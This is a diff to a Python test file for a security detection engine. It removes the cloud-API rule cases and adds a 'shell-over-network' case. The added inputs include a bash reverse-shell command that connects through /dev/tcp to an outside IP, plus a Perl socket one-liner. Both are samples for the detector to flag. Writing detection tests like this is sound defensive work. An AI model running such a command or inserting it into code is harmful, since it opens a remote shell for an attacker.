@@ -1,4 +1,4 @@
-"""Rules on credentials, evasion, persistence, movement, discovery and clouds: found, not found, and how strong."""
+"""Rules on credentials, evasion, persistence, movement and discovery: found, not found, and how strong."""
 
 import base64
 import time
@@ -16,7 +16,6 @@ from incidents import (
     TEMP,
     access,
     call,
-    control,
     event,
     found,
     inject,
@@ -35,7 +34,6 @@ from verifier.commands import decoded, key_form, meanings, number_of
 from verifier.rules import (
     accounts,
     callbacks,
-    cloud,
     controls,
     credentials,
     discovery,
@@ -82,13 +80,6 @@ def ticket(at, activity="tgs", **more):
     return event(
         at, "kerberos", activity, **{"host": "DIR-01", "user": None, "src_ip": "10.20.1.11", "user_name": "ana", **more}
     )
-
-
-def api(operation, resources="{}", at=0, **more):
-    return event(
-        at, "cloud_api", "call", api_operation=operation, resources=resources, cloud_account="111111111111",
-        **{"host": None, "src_ip": OUTSIDE, "user_uid": "arn:aws:iam::111111111111:user/ana", **more},
-    )  # fmt: skip
 
 
 def changed(properties, kind="user", activity="modify", **more):
@@ -379,6 +370,11 @@ CASES = {
         ("suspicious", [launch(0, CMD, parent=SYSTEM32 + "mshta.exe")]),
         ("", [launch(0, CMD, parent=INSTALLED)]),
     ],
+    "shell-over-network": [
+        ("confirmed", [launch(0, "/usr/bin/perl", "perl -e 'use Socket;$i=1'")]),
+        ("confirmed", [launch(0, "/bin/bash", "bash -c 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'")]),
+        ("", [launch(0, "/usr/bin/perl", "perl script.pl")]),
+    ],
     "remote-registry": [
         ("suspicious", [setting(0, "1", CONTROL_KEY + "CrashControl\\LogEvent", SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
         ("", [setting(0, "1", CONTROL_KEY + "CrashControl\\LogEvent")]),
@@ -528,54 +524,7 @@ CASES = {
         ("", many(4, lambda n: run(f"net.exe stop svc{n}", at=n))),
         ("", many(5, lambda n: run(f"net.exe stop svc{n}", at=n * 76))),
     ],
-    # ------------------------------------------------------------ clouds
-    "cloud-secrets-read": [
-        ("suspicious", many(3, lambda n: api("GetSecretValue", at=n * 300))),
-        ("suspicious", [api("BatchGetSecretValue")]),
-        ("", many(2, lambda n: api("GetSecretValue", at=n))),
-        ("", many(3, lambda n: api("GetSecretValue", at=n * 301))),
-    ],
-    "cloud-shared-outside": [
-        ("confirmed", [api("ModifyImageAttribute", '{"launchPermission":{"add":{"items":[{"userId":"222222222222"}]}}}')]),
-        ("suspicious", [api("PutBucketPolicy", '{"Principal":{"AWS":"arn:aws:iam::222222222222:root"}}')]),
-        ("confirmed", [api("PutBucketPolicy", '{"Principal":"*"}')]),
-        ("", [api("PutBucketPolicy", '{"Principal":{"AWS":"arn:aws:iam::111111111111:root"}}')]),
-        ("", [api("PutBucketPolicy", '{"Principal":"*"}', api_error="AccessDenied")]),
-    ],
-    "cloud-back-door": [
-        ("suspicious", [api("CreateTrustAnchor")]),
-        ("confirmed", [api("AddPermission20150331v2", '{"principal":"*"}')]),
-        ("", [api("AddPermission20150331v2", '{"principal":"events.amazonaws.com"}'), api("GetRole")]),
-    ],
-    "cloud-machines-misused": [
-        ("suspicious", [api("RunInstances", '{"instanceType":"p2.xlarge"}')]),
-        ("suspicious", [api("RunInstances", '{"instanceType":"t3.micro","maxCount":10}', api_error="Client.VcpuLimitExceeded")]),
-        ("", [api("RunInstances", '{"instanceType":"t3.micro","maxCount":9}')]),
-    ],
-    "cloud-machine-entered": [
-        ("suspicious", many(2, lambda n: api("SendSSHPublicKey", f'{{"instanceId":"i-0000000{n}"}}', at=n))),
-        ("confirmed", many(3, lambda n: api("SendSSHPublicKey", f'{{"instanceId":"i-0000000{n}"}}', at=n))),
-        ("", [api("DescribeInstances")]),
-    ],
-    "cloud-trail-attempt": [
-        ("suspicious", [api("StopLogging", api_error="TrailNotFoundException")]),
-        ("", [api("DescribeTrails", api_error="AccessDenied")]),
-    ],
-    "cloud-instance-credentials": [
-        ("confirmed", many(2, lambda n: api("ListBuckets", at=n, user_uid="arn:aws:sts::111111111111:assumed-role/r/i-0abc1234", src_ip=f"203.0.113.{n}"))),
-        ("", many(2, lambda n: api("ListBuckets", at=n, user_uid="arn:aws:sts::111111111111:assumed-role/r/i-0abc1234"))),
-    ],
-    "cloud-door-opened": [
-        ("suspicious", [control(0, "firewall", '{"cidrIp":"0.0.0.0/0","fromPort":22}')]),
-        ("", [control(0, "firewall", '{"cidrIp":"0.0.0.0/0","fromPort":443}'), control(1, "firewall", '{"cidrIp":"10.0.0.0/8","fromPort":22}')]),
-    ],
-    "cloud-mail-read": [
-        ("suspicious", [api("MailItemsAccessed", user_uid="5a95e683-08ad")]),
-        ("", [api("MailItemsAccessed", user_uid="ana@corp.example")]),
-    ],
 }  # fmt: skip
-for _row in (row for _, rows in CASES["cloud-door-opened"] for row in rows):
-    _row["fields"]["control_name"] = "AuthorizeSecurityGroupIngress"
 
 
 @pytest.mark.parametrize(
@@ -594,7 +543,7 @@ def test_what_is_found_and_how_strong(rule_id, strength, rows):
 
 def test_every_rule_of_these_modules_is_found_in_some_example_and_not_in_another():
     modules = (
-        accounts, callbacks, cloud, controls, credentials, discovery, escalation, evasion, movement, persistence, programs,
+        accounts, callbacks, controls, credentials, discovery, escalation, evasion, movement, persistence, programs,
     )  # fmt: skip
     there = {rule.rule_id for module in modules for rule in module.RULES}
 
